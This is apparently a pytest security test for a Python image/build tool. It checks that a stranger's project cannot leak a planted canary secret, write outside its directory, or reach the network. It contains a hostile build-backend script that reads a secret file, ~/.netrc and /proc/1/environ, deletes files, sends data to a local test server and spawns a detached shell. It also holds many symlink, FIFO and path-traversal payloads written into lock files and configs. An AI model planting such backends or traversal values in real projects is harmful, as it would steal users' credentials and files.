"""A stranger's project reads, writes, sends, and runs nothing outside of itself, in real processes of the commands."""

import os
import platform
import re
import shutil
import socket
import subprocess
import sys
import tarfile
from pathlib import Path

import pytest
from bento_cli.cli import status
from rules_bento.base import landlock

from tests.helpers.made_wheels import Maker
from tests.sharing.image_support import DEBIAN, index, make_base

pytestmark = pytest.mark.skipif(bool(landlock.problem()), reason="Landlock")
CANARY = "canary-of-this-test"
SECONDS = 120
MAIN = "import sys; from bento_cli.cli import main; sys.exit(main())"
SERVICE = "import bentoml\n\n\n@bentoml.service\nclass Hello: ...\n"
PROJECT = '[project]\nname = "web"\nversion = "1.0"\nrequires-python = ">=3.9"\ndependencies = ["tiny"]\n'
BENTO = f'{PROJECT}[tool.bentoml.build]\nservice = "service:Hello"\n'
UV_BUILD = '[build-system]\nrequires = ["uv_build>=0.1"]\nbuild-backend = "uv_build"\n'
IN_TREE = '[build-system]\nrequires = []\nbuild-backend = "back"\nbackend-path = ["."]\n'
HOSTILE = """\
import glob, os, socket, subprocess
def try_all():
    for path in [{outside!r} + "/secret", {home!r} + "/.netrc", "/proc/1/environ"]:
        try:
            text = open(path).read()
            open({outside!r} + "/sent", "w").write(text)
        except OSError:
            pass
    for act in [
        lambda: open({outside!r} + "/written", "w"), lambda: os.remove({outside!r} + "/secret"),
        lambda: os.symlink("/", {home!r} + "/link"), lambda: os.kill(os.getppid(), 0) or None,
        lambda: socket.create_connection(({address!r}), 5).sendall(b"GET /canary-of-this-test HTTP/1.0\\r\\n\\r\\n"),
        lambda: subprocess.Popen(["sh", "-c", "sleep 1; touch " + {outside!r} + "/late"], start_new_session=True),
    ]:
        try:
            act()
        except OSError:
            pass
try_all()
def build_wheel(*_):
    raise SystemExit(1)
"""
PYTHON = '#!/bin/sh\ntouch {outside}/ran\nexec /usr/bin/python3 "$@"\n'


class Attack:
    """A project in `here`, beside directories of the user that hold a secret."""

    def __init__(self, tmp_path, address):
        self.here, self.outside, self.home = tmp_path / "above/project", tmp_path / "outside", tmp_path / "home"
        self.address = address
        for each in (self.here, self.outside, self.home):
            each.mkdir(parents=True)
        (self.outside / "secret").write_text(CANARY)
        (self.home / ".netrc").write_text(f"default login me password {CANARY}\n")
        self.write("main.py", "print(1)\n").write("service.py", SERVICE).write("pyproject.toml", PROJECT)

    def write(self, path, text):
        (self.here / path).parent.mkdir(parents=True, exist_ok=True)
        (self.here / path).write_text(text)
        return self

    def change(self, path, old, new):
        text = (self.here / path).read_text()
        assert old in text, text
        return self.write(path, text.replace(old, new, 1))

    def link(self, path, target):
        (self.here / path).parent.mkdir(parents=True, exist_ok=True)
        (self.here / path).unlink(missing_ok=True)
        (self.here / path).symlink_to(target)
        return self

    def fifo(self, path):
        (self.here / path).unlink(missing_ok=True)
        os.mkfifo(self.here / path)
        return self

    def package(self, system, *lines):
        return self.write("src/web/__init__.py", "").write("pyproject.toml", PROJECT + "".join(lines) + system)

    def hostile(self):
        host, port = re.search("//(.*):([0-9]+)", self.address).groups()
        names = {"outside": str(self.outside), "home": str(self.home), "address": (host, int(port))}
        return HOSTILE.format(**names)

    def python(self, path):
        program = self.here / path / ".venv/bin/python"
        program.parent.mkdir(parents=True)
        program.write_text(PYTHON.format(outside=self.outside))
        program.chmod(0o755)
        (program.parents[1] / "pyvenv.cfg").write_text("home = /usr/bin\n")


def bind(attack):
    directory = Path.cwd()
    os.chdir(attack.here)  # paths of sockets are short
    try:
        socket.socket(socket.AF_UNIX).bind("s")
    finally:
        os.chdir(directory)


def deep(attack):
    path = "/".join(["d"] * 900)
    (attack.here / path).mkdir(parents=True)


# What changes the project, by command and name. `+` in a name: after uv has locked it.
CHANGES = {
    "image": {
        "nothing in image": lambda it: it,
        "a link as main.py": lambda it: it.link("main.py", it.outside / "secret"),
        "a linked directory": lambda it: it.link("data", it.outside),
        "a relative link": lambda it: it.link("data.txt", "../../outside/secret"),
        "a link to a link": lambda it: it.link("a", "b").link("b", it.outside / "secret"),
        "a link as pyproject.toml +": lambda it: it.link("pyproject.toml", it.outside / "secret"),
        "a link as uv.lock +": lambda it: it.link("uv.lock", it.outside / "secret"),
        "a link as .gitignore": lambda it: it.link(".gitignore", it.outside / "secret"),
        "a link as .python-version": lambda it: it.link(".python-version", it.outside / "secret"),
        "the environment": lambda it: it.link("data", "/proc/self/environ"),
        "the memory": lambda it: it.link("data", "/proc/self/mem"),
        "a device": lambda it: it.link("data", "/dev/zero"),
        "a FIFO": lambda it: it.fifo("data"),
        "a FIFO as main.py": lambda it: it.fifo("main.py"),
        "a FIFO as uv.lock +": lambda it: it.fifo("uv.lock"),
        "a FIFO as pyproject.toml +": lambda it: it.fifo("pyproject.toml"),
        "a FIFO as .gitignore": lambda it: it.fifo(".gitignore"),
        "a socket": bind,
        "many levels": deep,
        "uv.toml above": lambda it: (it.here.parent / "uv.toml").write_text(f'index-url = "{it.address}/{CANARY}"\n'),
        ".venv": lambda it: it.python("."),
        ".venv above": lambda it: it.python(".."),
        "a name in the lock +": lambda it: it.change("uv.lock", 'name = "tiny"', f'name = "{it.outside}/tiny"'),
        "a name with .. +": lambda it: it.change("uv.lock", 'name = "tiny"', 'name = "../../outside/tiny"'),
        "a digest in the lock +": lambda it: it.change("uv.lock", "sha256:", f"sha256:{it.outside}/"),
        "a file name in the lock +": lambda it: it.change("uv.lock", "/files/", f"/files/%2e%2e%2f{it.outside}/"),
        "file: in the lock +": lambda it: it.change("uv.lock", 'url = "http', f'url = "file://{it.outside}/x'),
        "a source path in the lock +": lambda it: it.change("uv.lock", 'virtual = "."', 'virtual = "../../outside"'),
        "a variable in the lock +": lambda it: it.change("uv.lock", "/files/", "/files/${SECRET_OF_TEST}/"),
        "a table that continues a path": lambda it: it.write("conf=/keep", "").write(
            "pyproject.toml", f'{PROJECT}[tool.bento.image.files]\n"/../../../outside/secret=/opt/x" = "conf"\n'
        ),
        "a table with a link": lambda it: it.link("conf", it.outside).write(
            "pyproject.toml", f'{PROJECT}[tool.bento.image.files]\n"/opt/x" = "conf"\n'
        ),
        "a table with NUL": lambda it: it.write(
            "pyproject.toml", f'{PROJECT}[tool.bento.image.files]\n"/opt/x" = "conf\\u0000"\n'
        ),
        "a readme outside": lambda it: it.package(UV_BUILD, 'readme = "../../outside/secret"\n'),
        "a license outside": lambda it: it.package(UV_BUILD, 'license-files = ["../../outside/*"]\n'),
        "a linked readme": lambda it: it.package(UV_BUILD, 'readme = "README.md"\n').link(
            "README.md", it.outside / "secret"
        ),
        "a linked module": lambda it: it.package(UV_BUILD).link("src/web/data.txt", it.outside / "secret"),
        "a back end": lambda it: it.package(IN_TREE).write("back.py", it.hostile()),
        "a dynamic version": lambda it: (
            it.package(IN_TREE).write("back.py", it.hostile()).change("pyproject.toml", "version", "#")
        ),
        "a repository elsewhere": lambda it: it.write(".git", f"gitdir: {it.outside}\n"),
        "a linked HEAD": lambda it: it.write(".git/config", "").link(".git/HEAD", it.outside / "secret"),
        "Git's alternates": lambda it: it.write(".git/HEAD", "ref: refs/heads/main\n").write(
            ".git/objects/info/alternates", f"{it.outside}\n"
        ),
    },
    "build": {
        "nothing in build": lambda it: it,
        "a Bento's link": lambda it: it.link("data.txt", it.outside / "secret"),
        "a Bento's linked directory": lambda it: it.link("data", it.outside),
        "a Bento's requirements": lambda it: it.write(
            "bentofile.yaml", "service: service:Hello\npython: {requirements_txt: ../../outside/secret}\n"
        ),
        "a Bento's template": lambda it: it.write(
            "bentofile.yaml", "service: service:Hello\ndocker: {dockerfile_template: ../../outside/secret}\n"
        ),
        "a Bento's description": lambda it: it.write(
            "bentofile.yaml", "service: service:Hello\ndescription: 'file:../../outside/secret'\n"
        ),
        "a Bento's script": lambda it: it.write(
            "bentofile.yaml", "service: service:Hello\ndocker: {setup_script: ../../outside/secret}\n"
        ),
        "a file as find-links": lambda it: it.write("python", "keep").write(
            "pyproject.toml", f'{BENTO}[tool.uv]\nfind-links = ["python"]\n'
        ),
        "find-links outside": lambda it: it.write(
            "pyproject.toml", f'{BENTO}[tool.uv]\nfind-links = ["{it.outside}"]\n'
        ),
        "a variable in an index": lambda it: it.write(
            "pyproject.toml", f'{BENTO}[tool.uv]\nindex-url = "{it.address}/${{SECRET_OF_TEST}}"\n'
        ),
        "an index with the user's login": lambda it: it.write(
            "pyproject.toml", f'{BENTO}[tool.uv]\nextra-index-url = [" {it.address}"]\n'
        ),
    },
    "lock": {
        "nothing in lock": lambda it: it,
        "a variable in a requirement": lambda it: it.write(
            "pyproject.toml", BENTO.replace('"tiny"', f'"tiny @ {it.address}/${{SECRET_OF_TEST}}/tiny-1.0.tar.gz"')
        ),
        "a requirement outside": lambda it: it.write(
            "pyproject.toml", BENTO.replace('"tiny"', f'"tiny @ file://{it.outside}/tiny-1.0.tar.gz"')
        ),
        "a back end of a lock": lambda it: it.write("back.py", it.hostile()).write(
            "pyproject.toml", BENTO.replace("dependencies", 'dynamic = ["dependencies"]\n#') + IN_TREE
        ),
    },
}
ATTACKS = {name: (command, change) for command, changes in CHANGES.items() for name, change in changes.items()}
ATTACKS |= {f"verify: {name}": ("verify", change) for name, change in CHANGES["image"].items()}


@pytest.fixture
def attack(local, wheels, tmp_path, monkeypatch):
    Maker("bentoml").add({"bentoml/__init__.py": b""}).write(wheels)
    with index(wheels) as (address, requests):
        made = Attack(tmp_path, address.removesuffix("/simple"))
        made.requests = requests
        yield made


def run(attack, tmp_path, command):
    """Run a command, and return its output."""
    version = f"python3.{sys.version_info.minor}"  # this interpreter parses the modules
    files = DEBIAN | {"usr/local/bin/python3": version, f"usr/local/bin/{version}": b"\x7fELF"}
    make_base(tmp_path / "base", files, ("PATH=/usr/local/bin", f"PYTHON_VERSION={platform.python_version()}"))
    (attack.home / ".config/uv").mkdir(parents=True)
    (attack.home / ".config/uv/uv.toml").write_text(f'index-url = "{attack.address}/simple"\n')
    programs = tmp_path / "user_programs"
    programs.mkdir()
    (programs / "uv").symlink_to(Path(os.environ["RULES_BENTO_UV"]).resolve())
    variables = {
        "HOME": str(attack.home),
        "PATH": f"{programs}:/usr/bin:/bin",
        "PYTHONDONTWRITEBYTECODE": "1",
        "PYTHONPATH": os.pathsep.join(map(os.path.abspath, filter(None, sys.path))),
        "BENTOML_HOME": str(tmp_path / "store"),
        "SECRET_OF_TEST": CANARY,
    }
    here, base = str(attack.here), f"oci:{tmp_path}/base"
    words = {
        "image": [here, "--base", base, "--no-bytecode", "--output", f"oci:{tmp_path}/out"],
        "build": [here, "--bentoml-version", "1.0"],
        "lock": [here, "--bentoml-version", "1.0"],
        # Any image will do: the sources are read, and their wheels built, before they are compared with it.
        "verify": [base, "--rebuild", "--source", here, "--base", base],
    }
    command = [sys.executable, "-c", MAIN, command, *words[command]]
    options = {"cwd": tmp_path, "env": variables, "capture_output": True, "text": True, "timeout": SECONDS}
    return subprocess.run(command, check=False, stdin=subprocess.DEVNULL, **options)


def contents(directory):
    """All bytes below a directory, also in archives."""
    for path in sorted(directory.rglob("*")):
        if path.is_file() and not path.is_symlink() and path.stat().st_size < 1 << 30:
            data = path.read_bytes()
            if data[:2] == b"\x1f\x8b":
                with tarfile.open(path) as archive:
                    for member in archive:
                        yield f"{member.name} {member.linkname}".encode()
                        if member.isfile():
                            yield archive.extractfile(member).read()
            yield data


@pytest.mark.parametrize("name", ATTACKS)
def test_nothing_leaves_the_project(name, attack, tmp_path):
    command, change = ATTACKS[name]
    if command not in ("image", "verify"):
        attack.write("pyproject.toml", BENTO)
    if not name.endswith("+"):
        change(attack)
    if command in ("image", "verify") and (attack.here / "pyproject.toml").is_file():
        lock = [os.environ["RULES_BENTO_UV"], "lock", "-q", "--python", sys.executable, "--no-config"]
        variables = {**os.environ, "UV_DEFAULT_INDEX": f"{attack.address}/simple", "HOME": str(tmp_path / "other")}
        subprocess.run(lock, cwd=attack.here, env=variables, check=False, capture_output=True, timeout=SECONDS)
        for path in attack.outside.iterdir():  # of the back end, which uv ran
            if path.name != "secret":
                path.unlink()
        (attack.outside / "secret").write_text(CANARY)
    if name.endswith("+"):
        change(attack)
    before = {path: path.read_bytes() for path in attack.here.rglob("*.py") if path.is_file() and not path.is_symlink()}
    attack.requests.clear()
    done = run(attack, tmp_path, command)
    said = done.stdout + done.stderr
    assert done.returncode == (status.FOUND if command == "verify" else 0) or "nothing" not in name, said
    assert "Traceback" not in said, said
    assert "internal error" not in said, said
    assert not re.search(CANARY, said), said
    assert {path.name: path.read_text() for path in attack.outside.iterdir()} == {"secret": CANARY}, said
    assert {path.name for path in attack.home.iterdir()} <= {".netrc", ".cache", ".config", ".local"}, said
    assert not [path for path in attack.requests if CANARY in path], said
    for directory in (tmp_path / "out", tmp_path / "store"):
        assert not any(CANARY.encode() in data for data in contents(directory)), said
    assert before == {path: path.read_bytes() for path in before}
    if (attack.here / "python").exists():
        assert (attack.here / "python").read_text() == "keep"
    shutil.rmtree(attack.here, ignore_errors=True)
